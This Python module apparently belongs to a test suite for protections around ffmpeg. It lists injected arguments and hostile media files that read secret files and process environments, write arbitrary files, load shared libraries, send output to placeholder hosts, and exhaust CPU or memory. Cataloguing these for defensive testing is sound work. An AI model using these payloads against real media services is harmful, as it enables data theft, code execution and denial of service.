"""The exploits: what each asks for or serves, and where it works without any protection.

`ARGUMENTS` are requests with hostile arguments on a harmless film; `MEDIA` are harmless requests
for hostile media. Words in @...@ are filled in by `traps.Traps.fill`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from attacks import hostile_media

OLD, NEW = "ffmpeg 5", "ffmpeg 9"
BOTH = (OLD, NEW)


@dataclass(frozen=True)
class ArgumentExploit:
    """Arguments that stand between `ffmpeg -i FILM` and the output.

    `works` names the programs on which it reaches something when nothing protects; `heavy` ones
    need much time or memory for that. `needs` is a file that has to be there.
    """

    id: str
    args: tuple[str, ...]
    works: tuple[str, ...] = BOTH
    output: str = "mkv"
    input_args: tuple[str, ...] = ()
    heavy: bool = False
    needs: str = ""


@dataclass(frozen=True)
class MediaExploit:
    """A file that is served as media under `name`.

    `content` makes it with the help of `Traps.fill`. `remote`: it works, where it does, when
    ffmpeg opens its address itself, not the downloaded file; and `redirect` is where that leads.
    """

    id: str
    name: str
    content: Callable[[Callable[[str], str]], bytes]
    works: tuple[str, ...] = ()
    remote: bool = False
    redirect: str = ""
    heavy: bool = False


def _steal(source: str, *demuxer: str) -> tuple[str, ...]:
    """A second input, stored byte for byte as the samples of a sound."""
    return (*(demuxer or ("-f", "u8")), "-i", source, "-map", "1", "-c", "copy")


A = ArgumentExploit
_PICTURE = ("-frames:v", "1")

READING = [
    A("R1 path", _steal("@secret@"), output="wav"),
    A("R1 file", _steal("file:@secret@"), output="wav"),
    A("R1 concat", _steal("concat:@secret@|@secret@"), output="wav"),
    A("R1 subfile", _steal("subfile,,start,0,end,40,,:@secret@"), output="wav"),
    A("R1 cache", _steal("cache:@secret@"), output="wav"),
    A("R1 async", _steal("async:@secret@"), output="wav"),
    A("R1 concat demuxer", _steal("@media@/list.ffconcat", "-f", "concat", "-safe", "0"),
      output="ts", works=()),
    A("R2 environment", _steal("/proc/self/environ"), output="wav"),
    A("R2 environment of a thread", _steal("/proc/thread-self/environ"), output="wav"),
    A("R3 lavfi input", _steal("amovie=@secret@:f=u8", "-f", "lavfi"), output="wav"),
    A("R3 amovie", ("-filter_complex", "amovie=@secret@:f=u8[a]", "-map", "[a]",
                    "-c:a", "pcm_u8"), output="wav"),
    A("R3 movie", ("-filter_complex", "movie=@png@[v];[0:v][v]overlay", *_PICTURE), output="png"),
    A("R3 movie in a simple graph", ("-vf", "movie=@png@,scale=64:48[x];[in][x]overlay[out]",
                                     *_PICTURE), output="png"),
    A("R3 movie behind quotes", ("-vf", "'mo'v\\ie@x=@png@,scale=64:48[x];[in][x]overlay",
                                 *_PICTURE), output="png"),
    A("R4 attach", ("-attach", "@secret@", "-metadata:s:t", "mimetype=text/plain")),
    A("R4 metadata", ("-f", "ffmetadata", "-i", "@secret@", "-map_metadata", "1")),
    A("R4 data", _steal("@secret@", "-f", "data"), output="data"),
    A("R4 key of a playlist", ("-f", "hls", "-hls_key_info_file", "@key_info@"), output="m3u8"),
    A("R5 preset file", ("-fpre", "@secret@")),
    A("R5 sendcmd", ("-vf", "sendcmd=f=@secret@")),
    A("R5 asendcmd", ("-af", "asendcmd=f=@secret@")),
    A("R5 graph from a file", ("-/filter_complex", "@graph@"), works=(NEW,)),
    A("R5 video graph from a file", ("-/vf", "@graph@"), works=(NEW,)),
    A("R5 option from a file", ("-/metadata", "@secret@"), works=(NEW,)),
    A("R5 filter's option from a file", ("-vf", "drawtext=/text=@secret@"), works=(NEW,)),
    A("R6 drawtext", ("-vf", "drawtext=textfile=@secret@:fontsize=20", *_PICTURE), output="png"),
    A("R6 drawtext behind escapes", ("-vf", "drawtext=te\\xtfile=@secret@", *_PICTURE),
      output="png"),
    A("R6 font", ("-vf", "drawtext=text=a:fontfile=@secret@", *_PICTURE), output="png"),
    A("R6 subtitles", ("-vf", "subtitles=@srt@", *_PICTURE), output="png"),
    A("R6 x264", ("-c:v", "libx264", "-x264-params", "cqmfile=@matrix@"), output="mp4"),
    A("R6 x264 pictures' qualities", ("-c:v", "libx264", "-x264opts", "qpfile=@secret@"),
      output="mp4", works=()),
    A("R6 x265", ("-c:v", "libx265", "-x265-params", "scaling-list=@secret@"), output="mp4"),
    A("R6 glob", ("-f", "image2", "-pattern_type", "glob", "-i", "@dir@/*.png", "-map", "1:v",
                  "-c", "copy")),
    A("R6 colour table", ("-vf", "lut3d=@secret@", *_PICTURE), output="png"),
    A("R6 curves", ("-vf", "curves=psfile=@secret@", *_PICTURE), output="png"),
    A("R6 model", ("-af", "arnndn=m=@secret@"), output="wav"),
    A("R6 logo", ("-vf", "removelogo=@png@", *_PICTURE), output="png"),
    A("R7 graph's script", ("-filter_complex_script", "@graph@"), works=(OLD,)),
    A("R7 filter's script", ("-filter_script:v", "@graph@"), works=(OLD,)),
]  # fmt: skip

_TWO_PASSES = ("-c:v", "libx264", "-preset", "ultrafast", "-b:v", "100k", "-pass", "1")
_FEW = ("-frames:v", "3", "-an")

WRITING = [
    A("W1 second output", ("-t", "0.1", "@out@.mkv"), output="mkv"),
    A("W1 tee", ("-map", "0:v", "-c:v", "mpeg4", "-f", "tee",
              "[f=matroska]@out@")),
    A("W1 segment list", ("-f", "segment", "-segment_list", "@out@"), output="%03d.mkv"),
    A("W1 segments of a playlist", ("-f", "hls", "-hls_segment_filename", "@outdir@/%d.ts"),
      output="m3u8"),
    A("W1 progress", ("-progress", "file:@out@")),
    A("W1 statistics", ("-vstats_file", "@out@")),
    A("W1 log of a pass", (*_TWO_PASSES, "-passlogfile", "@out@")),
    A("W1 x264", ("-c:v", "libx264", "-x264-params", "pass=1:stats=@out@", *_FEW)),
    A("W1 x265", ("-c:v", "libx265", "-x265-params", "csv=@out@", *_FEW)),
    A("W1 sdp", ("-f", "rtp", "-sdp_file", "@out@", "-an"), output="rtp"),
    A("W1 metadata", ("-f", "ffmetadata", "@out@"), output="mkv"),
    A("W1 metadata filter", ("-vf", "metadata=print:file=@out@")),
    A("W1 signature", ("-filter_complex", "[0:v]signature=filename=@out@[v]", "-map", "[v]")),
    A("W1 vidstabdetect", ("-vf", "vidstabdetect=result=@out@")),
    A("W1 psnr", ("-filter_complex", "[0:v]split[a][b];[a][b]psnr=stats_file=@out@[v]",
                  "-map", "[v]")),
    A("W1 deshake", ("-vf", "deshake=filename=@out@")),
    A("W1 loudnorm", ("-af", "loudnorm=stats_file=@out@"), works=()),
    A("W2 attachment", (), input_args=("-dump_attachment:t", "@out@")),
    A("W2 attachment of a second input", ("-dump_attachment:t", "@out@", "-i", "@media@/film.mkv")),
]  # fmt: skip

RUNNING = [
    A("X1 ladspa", ("-af", "ladspa=file=@so@:plugin=x"), works=(OLD,), output="wav", needs="@so@"),
    A("X1 ladspa behind quotes", ("-af", "lad'spa'=f=@so@:p=x"), works=(OLD,), output="wav",
      needs="@so@"),
]  # fmt: skip

NETWORK = [
    A("N1 http input", ("-i", "http://@http@/a.mkv")),
    A("N1 progress", ("-progress", "http://@http@/progress")),
    A("N1 http output", ("-t", "0.1", "-f", "matroska", "http://@http@/out"), output="mkv"),
    A("N1 tee", ("-map", "0:v", "-c:v", "mpeg4", "-f", "tee",
                 "[f=matroska]http\\://@http@/out")),
    A("N1 movie", ("-filter_complex", "movie='http\\://@escaped_http@/a.png'[v];[0:v][v]overlay")),
    A("N1 playlist output", ("-f", "hls", "-method", "POST", "http://@http@/out.m3u8")),
    A("N2 udp output", ("-f", "mpegts", "udp://@udp@")),
    A("N2 rtp output", ("-an", "-f", "rtp", "rtp://@udp@")),
    A("N3 tcp listener", ("-f", "matroska", "-i", "tcp://@free@?listen=1")),
    A("N3 http listener", ("-listen", "1", "-f", "matroska", "http://@free@/out")),
]  # fmt: skip

ENDLESS = [
    A("D1 loop of the input", (), input_args=("-stream_loop", "-1")),
    A("D1 source of pictures", ("-f", "lavfi", "-i", "testsrc", "-map", "1")),
    A("D1 zeros", ("-f", "u8", "-i", "/dev/zero", "-map", "1", "-c", "copy"), output="wav"),
    A("D1 last picture", ("-vf", "tpad=stop=-1", "-an")),
    A("D1 silence", ("-vn", "-af", "apad", "-c:a", "pcm_u8"), output="wav"),
    A("D1 loop of the sound", ("-vn", "-af", "aloop=loop=-1:size=8000", "-c:a", "pcm_u8"),
      output="wav"),
    A("D1 loop of pictures", ("-vf", "loop=loop=-1:size=10", "-an")),
    A("D1 at native speed", (), input_args=("-readrate", "0.001"), works=(OLD,)),
    A("D2 large picture", ("-vf", "scale=16000:16000", "-an", *_PICTURE, "-pix_fmt", "rgb24"),
      output="png", heavy=True),
    A("D2 loop and reverse", ("-vf", "loop=loop=-1:size=10,scale=1280:-2,reverse", "-an"),
      heavy=True),
    A("D2 split", ("-filter_complex",
                   "split=64" + "".join(f"[s{n}]" for n in range(64)) + ";"
                   + "".join(f"[s{n}]" for n in range(64)) + "hstack=inputs=64[v]", "-map", "[v]"),
      works=()),
    A("D3 expression for each pixel",
      ("-vf", "scale=640:480,geq=lum='st(0,0);while(lt(ld(0),9999),st(0,ld(0)+1))'", "-an")),
    A("D3 expression without an end", ("-vf", "setpts='while(1,0)'", "-an")),
    A("D3 expression in disguise", ("-vf", "setpts='whi le?(1,0)'", "-an")),
    A("D3 expression in text", ("-vf", "drawtext=text='%{e\\:whil\\\\e(1,0)}'", "-an")),
    A("D3 expression of key frames", ("-force_key_frames", "expr:while.(1,0)", "-an")),
    A("D3 thousands of filters", ("-vf", ",".join(["null"] * 15000), "-an")),
    A("D3 minterpolate", ("-vf", "scale=1280:960,minterpolate=fps=600:mi_mode=mci", "-an")),
    A("D6 flood of log lines", ("-loglevel", "trace"), works=()),
    A("D7 report", ("-report",), works=()),
]  # fmt: skip

ARGUMENTS = [*READING, *WRITING, *RUNNING, *NETWORK, *ENDLESS]

M = MediaExploit
MEDIA = [
    M("M1 playlist of a file", "list.m3u8", hostile_media.hls("file://@ts@"), BOTH),
    M("M1 playlist of a path", "list.m3u8", hostile_media.hls("@ts@"), BOTH),
    M("M1 playlist behind bytes that are no text", "list.m3u8",
      hostile_media.hls("file://@ts@", mark="#\x01\x02"), BOTH),
    M("M2 manifest of a file", "list.mpd", hostile_media.dash("file://@mp4@"), BOTH),
    M("M2 list of a neighbour", "list.ffconcat", hostile_media.concat("neighbour.ts"), BOTH),
    M("M3 playlist of an address", "list.m3u8", hostile_media.hls("http://@http@/a.ts")),
    M("M3 manifest of an address", "list.mpd", hostile_media.dash("http://@http@/a.mp4")),
    M("M3 list of an address", "list.ffconcat", hostile_media.concat("http://@http@/a.ts")),
    M("M3 session", "session.sdp", hostile_media.sdp("@free@")),
    M("M4 playlist that ffmpeg opens", "list.m3u8", hostile_media.hls("http://@http@/a.ts"),
      BOTH, remote=True),
    M("M4 manifest that ffmpeg opens", "list.mpd", hostile_media.dash("http://@http@/a.mp4"),
      BOTH, remote=True),
    M("M4 redirect", "moved.mkv", hostile_media.nothing, BOTH, remote=True,
      redirect="http://@http@/a.mkv"),
    M("M5 playlist of a text", "list.m3u8", hostile_media.hls("file://@secret@")),
    M("M5 playlist of a chain", "list.m3u8", hostile_media.hls("concat:@ts@|@ts@")),
    M("M5 list of a path", "list.ffconcat", hostile_media.concat("@ts@")),
    M("M5 drawing", "picture.svg", hostile_media.svg("file://@png@")),
    M("M5 library", "song.mp3", hostile_media.library),
    M("D4 picture of 256 megapixels", "picture.png", hostile_media.huge_png, BOTH, heavy=True),
    M("D5 picture with gigabytes of text", "picture.png", hostile_media.text_png, (OLD,),
      heavy=True),
]  # fmt: skip

LOADS = {
    "D1 pictures repeated": ("-vf", "setpts=9999*PTS,fps=1000", "-an"),
    "D2 large pictures": ("-vf", "scale=9999:9999", "-c:v", "ffv1", "-an"),
    "D6 lines of a filter": ("-vf", "setpts=20*PTS,fps=1000,showinfo", "-c:v", "mpeg4", "-an"),
}
"""What the policy allows, although it can take more than there is: the limits of a job hold."""
